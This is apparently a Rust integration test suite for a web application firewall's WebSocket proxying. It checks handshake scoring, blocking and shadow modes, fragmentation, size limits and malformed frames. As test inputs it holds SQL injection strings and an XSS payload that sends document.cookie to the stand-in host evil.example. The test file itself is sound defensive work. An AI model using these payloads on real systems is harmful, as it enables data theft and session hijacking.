//! WebSocket through the proxy over real sockets: a real client and echo server
//! (tokio-tungstenite) on either side. The handshake is scored like any request; once the
//! upstream accepts it, every client message is scored (WAF_WS_INSPECT) and the upstream's are
//! relayed.

mod common;

use std::net::SocketAddr;
use std::time::Duration;

use common::proxy::*;
use futures_util::{SinkExt, StreamExt};
use testkit::ws_echo::{EchoServer, Record};
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::protocol::frame::coding::{CloseCode, Data, OpCode};
use tokio_tungstenite::tungstenite::protocol::frame::Frame;
use tokio_tungstenite::tungstenite::{Error as WsError, Message};

/// The shared echo peer (testkit), keeping every handshake and message it saw.
async fn echo_server() -> EchoServer {
    EchoServer::start(Record::Everything).await.expect("the echo server starts")
}

#[tokio::test]
async fn messages_echo_through_the_proxy_after_a_scored_handshake() {
    let echo = echo_server().await;
    // A short header-read timeout: the tunnel must not be cut by it once the switch is made.
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--kill-response", "forbidden", "--header-read-timeout-ms", "300"]);
    let (mut ws, resp) =
        tokio_tungstenite::connect_async(format!("ws://{}/chat?room=lobby", proxy.addr)).await.expect("handshake through the proxy");
    assert_eq!(resp.status(), 101);

    ws.send(Message::text("hello, it's Miles")).await.unwrap();
    assert_eq!(ws.next().await.unwrap().unwrap(), Message::text("hello, it's Miles"));
    tokio::time::sleep(Duration::from_millis(800)).await;
    ws.send(Message::binary(vec![0u8, 1, 2, 255])).await.unwrap();
    assert_eq!(ws.next().await.unwrap().unwrap(), Message::binary(vec![0u8, 1, 2, 255]));
    ws.close(None).await.unwrap();

    let handshakes = echo.handshakes.lock().unwrap();
    assert_eq!(handshakes.len(), 1);
    let headers = &handshakes[0];
    assert!(headers.contains_key("x-waf-score"), "the handshake was scored: {headers:?}");
    assert_eq!(headers["x-forwarded-for"], "127.0.0.1");
    assert!(headers["upgrade"].to_str().unwrap().eq_ignore_ascii_case("websocket"));
}

#[tokio::test]
async fn an_attack_in_the_handshake_refuses_the_upgrade() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--kill-response", "forbidden"]);
    let url = format!("ws://{}{}", proxy.addr, SQLI);
    match tokio_tungstenite::connect_async(url).await {
        Err(WsError::Http(resp)) => assert_eq!(resp.status(), 403),
        Err(other) => panic!("expected a 403 refusal, got {other:?}"),
        Ok(_) => panic!("the attack's handshake was tunnelled"),
    }
    assert!(echo.handshakes.lock().unwrap().is_empty(), "the upstream never sees a killed handshake");
}

#[tokio::test]
async fn only_websocket_is_passed_and_a_plain_upstream_answer_is_not_a_tunnel() {
    let app = upstream().await;
    let proxy = start_proxy(app.addr, &[]);
    // h2c and any other protocol are not tunnels: the upgrade fields are stripped.
    let mut req = get("/page");
    req.headers_mut().insert("connection", "upgrade".parse().unwrap());
    req.headers_mut().insert("upgrade", "h2c".parse().unwrap());
    let reply = send(proxy.addr, req).await;
    assert_eq!(reply.status, 200);
    assert!(!app.last().headers.contains_key("upgrade"));
    // A WebSocket handshake to an upstream that does not switch gets its plain answer.
    match tokio_tungstenite::connect_async(format!("ws://{}/page", proxy.addr)).await {
        Err(WsError::Http(resp)) => assert_eq!(resp.status(), 200),
        other => panic!("expected the upstream's 200, got {other:?}"),
    }
    assert_eq!(app.last().headers["upgrade"], "websocket", "the handshake reached the upstream as one");
}

type Client = tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

const SQLI_MESSAGE: &str = "{\"room\":\"lobby\",\"text\":\"1' UNION SELECT username, password FROM users--\"}";
const XSS_MESSAGE: &str = "nice pic <script>document.location='http://evil.example/?c='+document.cookie</script>";

async fn connect(addr: SocketAddr) -> Client {
    let (ws, resp) = tokio_tungstenite::connect_async(format!("ws://{addr}/chat?room=lobby")).await.expect("handshake through the proxy");
    assert_eq!(resp.status(), 101);
    ws
}

/// Sends `text` and reads what comes back: the echo, or the close the proxy sent instead.
async fn round_trip(ws: &mut Client, text: &str) -> Message {
    ws.send(Message::text(text)).await.unwrap();
    next_message(ws).await
}

async fn next_message(ws: &mut Client) -> Message {
    match tokio::time::timeout(Duration::from_secs(10), ws.next()).await.expect("an answer in 10 s") {
        Some(Ok(msg)) => msg,
        other => panic!("expected a message or a close, got {other:?}"),
    }
}

/// The next thing the client gets is the proxy's close with `code`, and the upstream got no
/// message on any connection.
async fn closed_before_the_upstream(ws: &mut Client, echo: &EchoServer, code: CloseCode) {
    let answer = next_message(ws).await;
    assert_eq!(close_code(&answer), Some(code), "{answer:?}");
    assert!(echo.received().is_empty(), "nothing reached the upstream");
}

fn close_code(msg: &Message) -> Option<CloseCode> {
    match msg {
        Message::Close(Some(frame)) => Some(frame.code),
        _ => None,
    }
}

/// The proxy's recent events for WebSocket messages (component `websocket`), oldest first.
async fn websocket_events(proxy: &TestProxy) -> Vec<serde_json::Value> {
    let recent = send(proxy.addr, get("/api/events/recent")).await;
    recent.json().as_array().into_iter().flatten().filter(|e| e["component"] == "websocket").cloned().collect()
}

/// The newest message event once there are `n`: a message forwarded before its verdict (shadow
/// mode, `score`) may be echoed before its event is recorded.
async fn nth_websocket_event(proxy: &TestProxy, n: usize) -> serde_json::Value {
    for _ in 0..100 {
        let events = websocket_events(proxy).await;
        if events.len() >= n {
            assert_eq!(events.len(), n, "one event per message: {events:?}");
            return events[n - 1].clone();
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("fewer than {n} message events after 5 s");
}

#[tokio::test]
async fn an_attack_message_in_active_mode_closes_with_1008_and_never_reaches_the_upstream() {
    for attack in [SQLI_MESSAGE, XSS_MESSAGE] {
        let echo = echo_server().await;
        let proxy = start_proxy(echo.addr, &["--mode", "active"]);
        let mut ws = connect(proxy.addr).await;
        assert_eq!(round_trip(&mut ws, "see you at noon").await, Message::text("see you at noon"));
        let answer = round_trip(&mut ws, attack).await;
        assert_eq!(close_code(&answer), Some(CloseCode::Policy), "{attack}: {answer:?}");
        tokio::time::sleep(Duration::from_millis(100)).await;
        assert_eq!(echo.received(), [Message::text("see you at noon")], "the attack never reached the upstream");
        let blocked = nth_websocket_event(&proxy, 2).await;
        assert_eq!(blocked["action"], "active_kill", "{blocked}");
        assert_eq!(blocked["path"], "/chat");
        assert_eq!(blocked["query"], "room=lobby");
    }
}

#[tokio::test]
async fn in_shadow_mode_the_attack_is_relayed_and_recorded() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "shadow"]);
    let mut ws = connect(proxy.addr).await;
    assert_eq!(round_trip(&mut ws, SQLI_MESSAGE).await, Message::text(SQLI_MESSAGE));
    ws.close(None).await.unwrap();
    assert_eq!(echo.received(), [Message::text(SQLI_MESSAGE)]);
    let event = nth_websocket_event(&proxy, 1).await;
    assert_eq!(event["action"], "shadow_kill", "{event}");
    assert_eq!(event["method"], "GET");
    assert_eq!(event["path"], "/chat");
    assert!(event["detector"].as_str().unwrap().contains("sqli"), "{event}");
}

#[tokio::test]
async fn score_only_records_and_never_closes() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--ws-inspect", "score"]);
    let mut ws = connect(proxy.addr).await;
    assert_eq!(round_trip(&mut ws, XSS_MESSAGE).await, Message::text(XSS_MESSAGE));
    let event = nth_websocket_event(&proxy, 1).await;
    assert_eq!(event["action"], "active_kill", "the gate's decision is recorded: {event}");
}

#[tokio::test]
async fn off_is_a_plain_tunnel() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--ws-inspect", "off"]);
    let mut ws = connect(proxy.addr).await;
    assert_eq!(round_trip(&mut ws, SQLI_MESSAGE).await, Message::text(SQLI_MESSAGE));
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert!(websocket_events(&proxy).await.is_empty(), "nothing is scored after the handshake");
}

#[tokio::test]
async fn a_fragmented_attack_with_a_ping_between_the_fragments_is_caught() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active"]);
    let mut ws = connect(proxy.addr).await;
    let parts = ["{\"text\":\"1' UN", "ION SELECT username, pass", "word FROM users--\"}"];
    ws.send(Message::Frame(Frame::message(parts[0], OpCode::Data(Data::Text), false))).await.unwrap();
    ws.send(Message::Frame(Frame::ping(&b"are you there"[..]))).await.unwrap();
    ws.send(Message::Frame(Frame::message(parts[1], OpCode::Data(Data::Continue), false))).await.unwrap();
    ws.send(Message::Frame(Frame::message(parts[2], OpCode::Data(Data::Continue), true))).await.unwrap();
    // The ping went on at once: the echo server's pong comes back before the verdict's close.
    let mut answers = vec![next_message(&mut ws).await];
    if !matches!(answers[0], Message::Close(_)) {
        answers.push(next_message(&mut ws).await);
    }
    assert_eq!(close_code(answers.last().unwrap()), Some(CloseCode::Policy), "{answers:?}");
    if answers.len() == 2 {
        assert_eq!(answers[0], Message::Pong(b"are you there".to_vec().into()), "{answers:?}");
    }
    assert!(echo.received().is_empty(), "no fragment reached the upstream");

    // The same fragments with a benign text arrive whole.
    let mut ws = connect(proxy.addr).await;
    ws.send(Message::Frame(Frame::message("see you ", OpCode::Data(Data::Text), false))).await.unwrap();
    ws.send(Message::Frame(Frame::ping(&b"p"[..]))).await.unwrap();
    ws.send(Message::Frame(Frame::message("at noon", OpCode::Data(Data::Continue), true))).await.unwrap();
    assert_eq!(next_message(&mut ws).await, Message::Pong(b"p".to_vec().into()));
    assert_eq!(next_message(&mut ws).await, Message::text("see you at noon"));
}

#[tokio::test]
async fn a_message_over_the_limit_follows_on_partial() {
    let long = format!("{{\"text\":\"{}\"}}", "see you at noon. ".repeat(20));
    // block (the default): close 1009, nothing forwarded.
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--ws-max-message", "64"]);
    let mut ws = connect(proxy.addr).await;
    assert_eq!(round_trip(&mut ws, "short").await, Message::text("short"));
    let answer = round_trip(&mut ws, &long).await;
    assert_eq!(close_code(&answer), Some(CloseCode::Size), "{answer:?}");
    assert_eq!(echo.received(), [Message::text("short")]);
    let event = nth_websocket_event(&proxy, 2).await;
    assert_eq!(event["partial"], "ws-message-limit", "{event}");
    assert_eq!(event["action"], "active_kill", "{event}");

    // pass: the whole message goes on, its event marked partial.
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--ws-max-message", "64", "--on-partial", "pass"]);
    let mut ws = connect(proxy.addr).await;
    assert_eq!(round_trip(&mut ws, &long).await, Message::text(long.clone()));
    let event = nth_websocket_event(&proxy, 1).await;
    assert_eq!(event["partial"], "ws-message-limit", "{event}");
    assert_eq!(event["action"], "passed", "{event}");

    // A message the process's body budget cannot hold is partial the same way.
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--body-budget", "64"]);
    let mut ws = connect(proxy.addr).await;
    let answer = round_trip(&mut ws, &long).await;
    assert_eq!(close_code(&answer), Some(CloseCode::Size), "{answer:?}");
    assert!(echo.received().is_empty());
    let event = nth_websocket_event(&proxy, 1).await;
    assert_eq!(event["partial"], "body-budget", "{event}");
}

#[tokio::test]
async fn endless_empty_fragments_are_a_message_over_the_limit() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active"]);
    let mut ws = connect(proxy.addr).await;
    ws.send(Message::Frame(Frame::message("hi", OpCode::Data(Data::Text), false))).await.unwrap();
    let mut sent = 1;
    // Held fragments are bounded (4096 per message): past that the message is partial, and
    // WAF_ON_PARTIAL=block closes with 1009 instead of holding frames without end.
    while sent < 5000 {
        if ws.send(Message::Frame(Frame::message("", OpCode::Data(Data::Continue), false))).await.is_err() {
            break;
        }
        sent += 1;
    }
    closed_before_the_upstream(&mut ws, &echo, CloseCode::Size).await;
}

#[tokio::test]
async fn compression_is_not_negotiated_and_a_compressed_frame_is_refused() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active"]);
    let mut req = format!("ws://{}/chat", proxy.addr).into_client_request().unwrap();
    req.headers_mut().insert("sec-websocket-extensions", "permessage-deflate; client_max_window_bits".parse().unwrap());
    let (mut ws, resp) = tokio_tungstenite::connect_async(req).await.unwrap();
    assert!(!resp.headers().contains_key("sec-websocket-extensions"));
    assert!(!echo.handshakes.lock().unwrap()[0].contains_key("sec-websocket-extensions"), "the offer never reached the upstream");
    // A frame claiming RSV1 (deflated) cannot be read: refused, never forwarded.
    let mut frame = Frame::message("1' UNION SELECT password FROM users--", OpCode::Data(Data::Text), true);
    frame.header_mut().rsv1 = true;
    ws.send(Message::Frame(frame)).await.unwrap();
    closed_before_the_upstream(&mut ws, &echo, CloseCode::Protocol).await;
}

#[tokio::test]
async fn binary_messages_are_scored_too() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active"]);
    let mut ws = connect(proxy.addr).await;
    ws.send(Message::binary(SQLI_MESSAGE.as_bytes().to_vec())).await.unwrap();
    closed_before_the_upstream(&mut ws, &echo, CloseCode::Policy).await;
}

#[tokio::test]
async fn policy_scopes_of_the_handshake_route_apply_to_its_messages() {
    let echo = echo_server().await;
    // The process is in shadow mode; the file makes /chat active and /quiet unscored.
    let proxy = start_proxy(echo.addr, &["--mode", "shadow"]);
    let gate = proxy.server.proxy.gate();
    let policy = "[[scope]]\npath = \"/chat\"\nmode = \"active\"\n\n[[scope]]\npath = \"/quiet\"\nmode = \"off\"\n";
    gate.install_policy(services::policy::PolicySet::parse(policy, gate.baseline()).unwrap());

    let mut ws = connect(proxy.addr).await;
    let answer = round_trip(&mut ws, SQLI_MESSAGE).await;
    assert_eq!(close_code(&answer), Some(CloseCode::Policy), "the active scope holds and closes: {answer:?}");
    assert!(echo.received().is_empty());
    assert_eq!(nth_websocket_event(&proxy, 1).await["action"], "active_kill");

    let (mut quiet, _) = tokio_tungstenite::connect_async(format!("ws://{}/quiet", proxy.addr)).await.unwrap();
    assert_eq!(round_trip(&mut quiet, SQLI_MESSAGE).await, Message::text(SQLI_MESSAGE));
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(websocket_events(&proxy).await.len(), 1, "a scope with mode off scores nothing");
}

/// A handshake written by hand on a raw socket, so that the frames after it can be malformed.
async fn raw_upgrade(addr: SocketAddr) -> tokio::net::TcpStream {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut tcp = tokio::net::TcpStream::connect(addr).await.unwrap();
    let handshake = "GET /chat HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                     Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    tcp.write_all(handshake.as_bytes()).await.unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0u8];
        assert_eq!(tcp.read(&mut byte).await.unwrap(), 1, "the proxy answers the handshake");
        head.push(byte[0]);
    }
    assert!(head.starts_with(b"HTTP/1.1 101"), "{}", String::from_utf8_lossy(&head));
    tcp
}

#[tokio::test]
async fn malformed_frames_close_with_1002_and_are_not_forwarded() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "shadow"]);
    let mask = [0x11, 0x22, 0x33, 0x44];
    let cases: [(&str, Vec<u8>); 7] = [
        ("reserved opcode 0x3", [&[0x83, 0x80][..], &mask].concat()),
        ("an unmasked text frame", b"\x81\x05hello".to_vec()),
        ("a ping of 126 bytes", [&[0x89, 0xFE, 0x00, 0x7E][..], &mask, &[0u8; 126]].concat()),
        ("a fragmented ping", [&[0x09, 0x80][..], &mask].concat()),
        ("a continuation without a message", [&[0x80, 0x80][..], &mask].concat()),
        ("a close with a one-byte payload", [&[0x88, 0x81][..], &mask, &[0x03 ^ 0x11]].concat()),
        ("a 64-bit length with its top bit set", [&[0x82, 0xFF, 0x80, 0, 0, 0, 0, 0, 0, 0][..], &mask].concat()),
    ];
    for (what, frame) in cases {
        let mut tcp = raw_upgrade(proxy.addr).await;
        tcp.write_all(&frame).await.unwrap();
        let mut answer = [0u8; 4];
        tokio::time::timeout(Duration::from_secs(5), tcp.read_exact(&mut answer)).await.expect(what).expect(what);
        assert_eq!(answer, [0x88, 0x02, 0x03, 0xEA], "{what}: an unmasked close 1002");
    }
    assert!(echo.received().is_empty());
}

/// p50 and p99 of `n` text round trips on one WebSocket at `url`, in milliseconds; with
/// `distinct: Some(run)` every message is new, also across runs (no model cache hit), else the
/// same one each time.
async fn round_trips(url: String, n: usize, distinct: Option<usize>) -> (f64, f64) {
    let (mut ws, _) = tokio_tungstenite::connect_async(url).await.unwrap();
    let mut took = Vec::with_capacity(n);
    for i in 0..n + 200 {
        let text = match distinct {
            Some(run) => {
                format!("{{\"room\":\"lobby\",\"text\":\"see you at noon by gate {run}, bring {} chairs and {i} cups\"}}", i * 7919 % 1000)
            }
            None => "{\"room\":\"lobby\",\"text\":\"see you at noon\"}".to_string(),
        };
        let started = std::time::Instant::now();
        ws.send(Message::text(text)).await.unwrap();
        ws.next().await.unwrap().unwrap();
        if i >= 200 {
            took.push(started.elapsed());
        }
    }
    took.sort();
    let ms = |p: f64| took[((n as f64 * p) as usize).min(n - 1)].as_secs_f64() * 1000.0;
    (ms(0.5), ms(0.99))
}

/// Figures for docs/PROXY.md (not a timed assertion): scripts/bench-ws, or `cargo test
/// --release -p rampart-services --test proxy_websocket -- --ignored --nocapture`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "a measurement; run by hand (scripts/bench-ws)"]
async fn measure_round_trip_added_by_the_proxy() {
    let n = std::env::var("BENCH_WS_ROUND_TRIPS").ok().and_then(|v| v.parse().ok()).unwrap_or(2000);
    let echo = echo_server().await;
    let runs: [(&str, &[&str]); 3] = [
        ("off (byte tunnel)", &["--ws-inspect", "off"]),
        ("shadow (forwarded, then scored)", &["--mode", "shadow"]),
        ("active (held until the verdict)", &["--mode", "active"]),
    ];
    println!("{n} echo round trips per line, one connection, p50 / p99 in ms");
    for distinct in [false, true] {
        let kind = if distinct { "a new text each time (the model reads most)" } else { "the same text each time" };
        let (direct50, direct99) = round_trips(format!("ws://{}/chat", echo.addr), n, distinct.then_some(0)).await;
        println!("{kind}:\n  direct                             p50 {direct50:.3}  p99 {direct99:.3}");
        for (run, (label, flags)) in runs.into_iter().enumerate() {
            let proxy = start_proxy(echo.addr, flags);
            let (p50, p99) = round_trips(format!("ws://{}/chat", proxy.addr), n, distinct.then_some(run + 1)).await;
            println!("  {label:<34} p50 {p50:.3}  p99 {p99:.3}   added p50 {:.3}  p99 {:.3}", p50 - direct50, p99 - direct99);
        }
    }
}

#[tokio::test]
async fn the_per_core_runtime_relays_and_judges_every_connection() {
    let echo = echo_server().await;
    let proxy = start_proxy(echo.addr, &["--mode", "active", "--runtime", "per-core"]);
    // Several sockets at once: the kernel spreads them over the cores' listeners.
    let mut clients = Vec::new();
    for _ in 0..6 {
        clients.push(connect(proxy.addr).await);
    }
    for (i, ws) in clients.iter_mut().enumerate() {
        let text = format!("see you at noon, table {i}");
        assert_eq!(round_trip(ws, &text).await, Message::text(text));
    }
    let answer = round_trip(&mut clients[0], SQLI_MESSAGE).await;
    assert_eq!(close_code(&answer), Some(CloseCode::Policy), "{answer:?}");
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(echo.received().len(), 6, "the attack never reached the upstream");
}
